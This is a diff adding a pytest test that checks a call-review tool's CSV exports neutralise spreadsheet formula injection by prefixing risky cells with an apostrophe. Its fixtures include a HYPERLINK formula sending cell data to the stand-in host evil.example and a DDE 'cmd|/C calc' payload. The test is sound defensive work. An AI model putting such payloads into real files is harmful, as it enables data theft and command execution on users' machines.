@@ -578,3 +578,45 @@ def test_a_turn_longer_than_a_page_goes_on_over_pages(library, pushback_call, se
     pages = PdfReader(io.BytesIO(pdf_bytes(replace(report, turns=[long_turn, *report.turns[1:]])))).pages
     text = " ".join(page.extract_text() for page in pages)
     assert "word0 " in text and "word2999" in text and len(pages) > 4
+
+
+# -- CSV cells a spreadsheet would run (issue 27) ------------------------------------------------
+
+
+def test_csv_cells_that_start_a_formula_are_neutralised_and_numbers_stay_numbers(library, settings, tmp_path):
+    from reviewer.actions.corrections import rename_speaker
+    from reviewer.actions.exports import ReportSource
+    from reviewer.report.clips import clip_excerpt, playlist_csv
+    from reviewer.report.tables import csv_cell
+
+    cells = ("-3", "+1.5", "-0.25", -4, 2.5, "=1+2", "@SUM(1)", "\t=1", "-x", "a=b")
+    assert [csv_cell(v) for v in cells] == [
+        "-3",
+        "+1.5",
+        "-0.25",
+        -4,
+        2.5,
+        "'=1+2",
+        "'@SUM(1)",
+        "'\t=1",
+        "'-x",
+        "a=b",
+    ]
+    call_id = _sensitive_call(library, settings, tmp_path)
+    hyperlink = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+    library.add_comment(call_id, start=1.0, text=hyperlink, author="@SUM(1+1)*cmd|' /C calc'!A0")
+    rename_speaker(library, call_id, "S1", name="=1+2", settings=settings)
+    export_calls(library, settings, [call_id], ["csv", "summary"], tmp_path / "out", redact=False)
+    cells = []
+    for name in ("sensitive.csv", "summary.csv"):
+        rows = list(csv.reader(io.StringIO((tmp_path / "out" / name).read_text(encoding="utf-8-sig"))))
+        cells += [c for row in rows for c in row]
+    assert "'" + hyperlink in cells and "'@SUM(1+1)*cmd|' /C calc'!A0" in cells
+    assert not [c for c in cells if c[:1] in ("=", "@", "+", "\t", "\r")], cells
+    assert not [c for c in cells if c[:1] == "-" and not re.fullmatch(r"-[\d.]+", c)], cells
+    assert any(c.startswith("'=1+2") for c in cells)  # the agent's name, wherever it is listed
+    clip = {"id": 1, "call_id": call_id, "call_name": "sensitive.wav", "title": "=cmd()", "note": "+note",
+            "start": 0.5, "end": 4.0, "start_ms": 500, "end_ms": 4000}  # fmt: skip
+    x = clip_excerpt(ReportSource(library), settings, clip, redact=False)
+    rows = list(csv.reader(io.StringIO(playlist_csv([("01 cmd.mp3", x)]).decode("utf-8-sig"))))
+    assert rows[1][2:3] == ["'=cmd()"] and rows[1][7] == "'+note" and rows[1][8][:1] not in "=+-@"
